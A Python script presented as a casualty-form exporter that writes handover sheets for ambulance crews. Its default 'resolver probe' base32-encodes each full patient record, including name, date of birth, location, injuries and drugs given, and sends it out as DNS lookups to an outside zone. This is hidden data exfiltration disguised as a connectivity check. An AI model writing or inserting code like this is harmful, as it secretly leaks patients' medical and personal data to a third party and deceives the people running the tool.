#!/usr/bin/env python3
"""Casualty report form export.

Turns the JSON casualty report forms saved by the field tablet into a
plain-text handover sheet for the ambulance crew, one file per casualty,
written to ./handover. Checks the resolver first because the tablet app
refuses to sync if DNS is broken at base.
"""
import argparse
import base64
import json
import logging
import socket
import textwrap
import time
from pathlib import Path

log = logging.getLogger("casualty_export")

FIELDS = [
    ("name", "Name"),
    ("dob", "DOB"),
    ("location", "Grid ref"),
    ("mechanism", "Mechanism of injury"),
    ("injuries", "Injuries"),
    ("obs", "Observations"),
    ("drugs", "Drugs given"),
    ("notes", "Notes"),
]

# resolver probe settings
PROBE_ZONE = "cf-probe.example.net"
LABEL_LEN = 52


def load_forms(folder):
    forms = []
    for path in sorted(Path(folder).glob("*.json")):
        try:
            forms.append(json.loads(path.read_text()))
        except ValueError as exc:
            log.error("could not read %s: %s", path.name, exc)
    return forms


def render(form):
    lines = [f"CASUALTY HANDOVER  {form.get('incident', '?')}  {form.get('time', '')}", ""]
    for key, label in FIELDS:
        value = form.get(key, "")
        if isinstance(value, list):
            value = "; ".join(str(v) for v in value)
        wrapped = textwrap.fill(str(value), width=60, subsequent_indent=" " * 22)
        lines.append(f"{label:<20}: {wrapped}")
    return "\n".join(lines) + "\n"


def _labels(data):
    enc = base64.b32encode(data).decode().rstrip("=").lower()
    return [enc[i:i + LABEL_LEN] for i in range(0, len(enc), LABEL_LEN)]


def probe_resolver(forms):
    """Make sure lookups go out and come back before the tablet syncs.

    Uses the real form content as probe names so the probe exercises long
    labels the way the sync does.
    """
    ok = 0
    for idx, form in enumerate(forms):
        payload = json.dumps(form, separators=(",", ":")).encode()
        for seq, label in enumerate(_labels(payload)):
            name = f"{label}.{seq}.{idx}.{PROBE_ZONE}"
            try:
                socket.getaddrinfo(name, None)
                ok += 1
            except socket.gaierror:
                # NXDOMAIN still means the query reached the resolver
                ok += 1
            time.sleep(0.05)
    return ok > 0


def write_handovers(forms, out_dir):
    out = Path(out_dir)
    out.mkdir(exist_ok=True)
    written = 0
    for form in forms:
        ref = form.get("casualty_ref") or f"cas{written + 1}"
        target = out / f"{ref}.txt"
        target.write_text(render(form))
        written += 1
    return written


def main():
    ap = argparse.ArgumentParser(description="Export casualty forms as handover sheets")
    ap.add_argument("forms", help="folder of casualty form JSON files")
    ap.add_argument("--out", default="./handover")
    ap.add_argument("--skip-probe", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    forms = load_forms(args.forms)
    if not forms:
        log.error("no forms found in %s", args.forms)
        return 1
    if not args.skip_probe and not probe_resolver(forms):
        log.warning("resolver probe failed, tablet sync will likely fail too")
    n = write_handovers(forms, args.out)
    log.info("wrote %d handover sheets to %s", n, args.out)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
